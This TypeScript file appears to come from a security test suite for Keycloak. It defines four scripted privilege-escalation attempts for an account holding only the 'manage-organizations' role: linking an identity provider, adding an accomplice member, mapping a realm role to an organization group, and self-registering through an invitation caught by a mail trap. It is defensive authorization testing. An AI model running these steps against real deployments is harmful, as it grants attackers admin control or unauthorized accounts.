import type { Attempt } from "../attempt.ts";
import { newBrowser } from "../browser.ts";
import { startMailTrap } from "../mail-trap.ts";
import { signInWithPassword } from "../request-token.ts";
import type { Scene } from "../scene.ts";
import { registerUser } from "../sign-in-by-browser.ts";

const roles = ["manage-organizations"];
const realm = { organizationsEnabled: true };
const mallory = { name: "mallory", secret: "chosen-by-the-attacker" };

const makeOrganization = ({ attacker }: Scene) =>
  attacker.caller.create("/organizations", {
    ...{ name: "acme", alias: "acme", enabled: true },
    domains: [{ name: "example.org", verified: true }],
  });

/** What changing organizations leads to. */
export const manageOrganizations: readonly Attempt[] = [
  {
    id: "link-identity-provider-to-organization",
    roles,
    harm: "high",
    realm,
    attack: async (scene) => {
      const alias = "partner";
      await scene.lab.send("POST", "/identity-provider/instances", {
        ...{ alias, providerId: "oidc", enabled: true },
        config: {
          ...{ clientId: "broker", clientSecret: "secret" },
          authorizationUrl: "https://partner.example.org/authorize",
          tokenUrl: "https://partner.example.org/token",
        },
      });
      const path = `/organizations/${await makeOrganization(scene)}/identity-providers`;
      await scene.attacker.caller.send("POST", path, alias);
    },
  },
  {
    id: "add-member-to-organization",
    roles,
    harm: "high",
    realm,
    attack: async (scene) => {
      const path = `/organizations/${await makeOrganization(scene)}/members`;
      await scene.attacker.caller.send("POST", path, scene.accomplice.id);
    },
  },
  {
    id: "map-role-to-group-of-organization",
    roles,
    harm: "realmAdmin",
    realm,
    attack: async (scene) => {
      const { caller } = scene.attacker;
      const groups = `/organizations/${await makeOrganization(scene)}/groups`;
      const group = await caller.create(groups, { name: "board" });
      await caller.send("POST", `${groups}/${group}/role-mappings/realm`, [scene.boss]);
    },
  },
  {
    id: "register-by-own-invitation",
    roles,
    harm: "high",
    realm,
    attack: async (scene) => {
      const { attacker, lab } = scene;
      const trap = await startMailTrap();
      try {
        // The realm's own mail server, which brings mails to the attacker's address too.
        const smtpServer = { ...trap.settings, from: "keycloak@example.org" };
        await lab.send("PUT", "", { smtpServer, registrationAllowed: false });
        const members = `/organizations/${await makeOrganization(scene)}/members`;
        const body = new URLSearchParams({ email: `${mallory.name}@example.org` });
        await attacker.caller.send("POST", `${members}/invite-user`, body);
        const browser = newBrowser();
        const page = await browser.open(trap.link(), "unknown:");
        await registerUser(browser, page, "unknown:", mallory);
        await signInWithPassword(scene, mallory.name, mallory.secret);
      } finally {
        await trap.stop();
      }
    },
  },
];
